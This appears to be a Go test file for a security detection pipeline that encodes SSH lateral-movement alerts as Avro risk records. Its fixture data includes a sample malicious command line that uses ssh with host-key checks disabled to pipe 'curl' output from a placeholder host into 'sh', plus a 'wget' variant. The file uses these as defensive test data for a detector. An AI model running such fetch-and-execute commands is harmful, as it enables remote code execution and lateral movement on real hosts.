package producer

import (
	"encoding/json"
	"testing"
	"time"

	"github.com/linkedin/goavro/v2"

	"github.com/sshlateral/sshlateral/processor"
	"github.com/sshlateral/sshlateral/schemas"
)

var cet = time.FixedZone("CET", 3600)

// fullResult has every field set; times are in CET to check UTC rendering.
func fullResult() processor.Result {
	return processor.Result{
		AlertID: "7d3f0c1e9b2a4e51",
		Key: processor.GroupKey{
			Dest:              "web-01.example.org",
			User:              "deploy",
			ParentProcessName: "bash",
			ProcessName:       "ssh",
			Process:           `ssh -oStrictHostKeyChecking=no -oBatchMode=yes db-02 "curl -s https://x.example/p.sh | sh && echo <ok>"`,
			ProcessID:         "4242",
			ParentProcessID:   "4100",
		},
		Count:             3,
		FirstSeen:         time.Date(2024, 3, 5, 11, 15, 7, 123_456_789, cet),
		LastSeen:          time.Date(2024, 3, 5, 11, 42, 59, 999_000_000, cet),
		WindowStart:       time.Date(2024, 3, 5, 9, 50, 0, 0, time.UTC),
		WindowEnd:         time.Date(2024, 3, 5, 10, 50, 0, 0, time.UTC),
		Emission:          processor.EmissionFinal,
		Revision:          2,
		ParentProcess:     "/bin/bash /opt/deploy.sh",
		ProcessPath:       "/usr/bin/ssh",
		ParentProcessPath: "/bin/bash",
		OriginalFileName:  "ssh",
	}
}

// sparseResult is an event that lacked every optional field: group fields
// hold "null" as processor.KeyOf sets them, context fields are empty.
func sparseResult() processor.Result {
	return processor.Result{
		AlertID: "0a1b2c3d",
		Key: processor.GroupKey{
			Dest: "null", User: "null", ParentProcessName: "null", ProcessName: "ssh",
			Process: "ssh -oConnectTimeout=5 h wget http://x", ProcessID: "null", ParentProcessID: "null",
		},
		Count:       1,
		FirstSeen:   time.Date(2023, 12, 31, 23, 59, 59, 0, time.UTC),
		LastSeen:    time.Date(2023, 12, 31, 23, 59, 59, 0, time.UTC),
		WindowStart: time.Date(2023, 12, 31, 22, 50, 0, 0, time.UTC),
		WindowEnd:   time.Date(2023, 12, 31, 23, 50, 0, 0, time.UTC),
		Emission:    processor.EmissionLate,
		Revision:    0,
	}
}

// wantRecord spells out, independently of the encoder, the native record
// expected for r and one risk object.
func wantRecord(r processor.Result, riskObject, riskObjectType, firstTime, lastTime, message string) map[string]any {
	opt := func(s string) any {
		if s == "" {
			return nil
		}
		return map[string]any{"string": s}
	}
	ms := func(t time.Time) time.Time { return time.UnixMilli(t.UnixMilli()).UTC() }
	return map[string]any{
		"alert_id":            r.AlertID,
		"search_name":         "ESCU - Linux SSH Remote Services Script Execute - Rule",
		"detection_id":        "aa1748dd-4a5c-457a-9cf6-ca7b4eb711b3",
		"detection_version":   int32(2),
		"risk_object":         riskObject,
		"risk_object_type":    riskObjectType,
		"risk_score":          int32(56),
		"impact":              int32(80),
		"confidence":          int32(70),
		"risk_message":        message,
		"threat_object":       r.Key.ProcessName,
		"threat_object_type":  "process_name",
		"dest":                r.Key.Dest,
		"user":                r.Key.User,
		"parent_process_name": r.Key.ParentProcessName,
		"process_name":        r.Key.ProcessName,
		"process":             r.Key.Process,
		"process_id":          r.Key.ProcessID,
		"parent_process_id":   r.Key.ParentProcessID,
		"count":               r.Count,
		"firstTime":           firstTime,
		"lastTime":            lastTime,
		"first_seen":          ms(r.FirstSeen),
		"last_seen":           ms(r.LastSeen),
		"window_start":        ms(r.WindowStart),
		"window_end":          ms(r.WindowEnd),
		"emission":            map[processor.Emission]string{0: "EARLY", 1: "FINAL", 2: "LATE"}[r.Emission],
		"revision":            r.Revision,
		"parent_process":      opt(r.ParentProcess),
		"process_path":        opt(r.ProcessPath),
		"parent_process_path": opt(r.ParentProcessPath),
		"original_file_name":  opt(r.OriginalFileName),
		"annotations": map[string]any{
			"mitre_attack":      []any{"T1021.004"},
			"tactic":            []any{"Lateral Movement"},
			"kill_chain_phases": []any{"Exploitation"},
			"nist":              []any{"DE.CM"},
			"cis20":             []any{"CIS 3", "CIS 5", "CIS 16"},
			"analytic_story":    []any{"Linux Living Off The Land"},
			"type":              "TTP",
		},
		"truncated": []any{},
		"sanitized": []any{},
	}
}

// schemaFieldNames reads the top-level field order straight from the .avsc.
func schemaFieldNames(t testing.TB) []string {
	t.Helper()
	var rec struct {
		Fields []struct {
			Name string `json:"name"`
		} `json:"fields"`
	}
	if err := json.Unmarshal([]byte(schemas.RiskRecordSchema), &rec); err != nil {
		t.Fatalf("parse schema: %v", err)
	}
	names := make([]string, len(rec.Fields))
	for i, f := range rec.Fields {
		names[i] = f.Name
	}
	return names
}

func newTestEncoder(t testing.TB, wire WireFormat, schemaID int32) *Encoder {
	t.Helper()
	enc, err := NewEncoder(EncoderConfig{Topic: "risk", Wire: wire, SchemaID: int64(schemaID)})
	if err != nil {
		t.Fatalf("NewEncoder: %v", err)
	}
	return enc
}

func newTestDecoder(t testing.TB) *Decoder {
	t.Helper()
	dec, err := NewDecoder()
	if err != nil {
		t.Fatalf("NewDecoder: %v", err)
	}
	return dec
}

func newTestCodec(t testing.TB) *goavro.Codec {
	t.Helper()
	codec, err := schemas.NewRiskRecordCodec()
	if err != nil {
		t.Fatalf("NewRiskRecordCodec: %v", err)
	}
	return codec
}
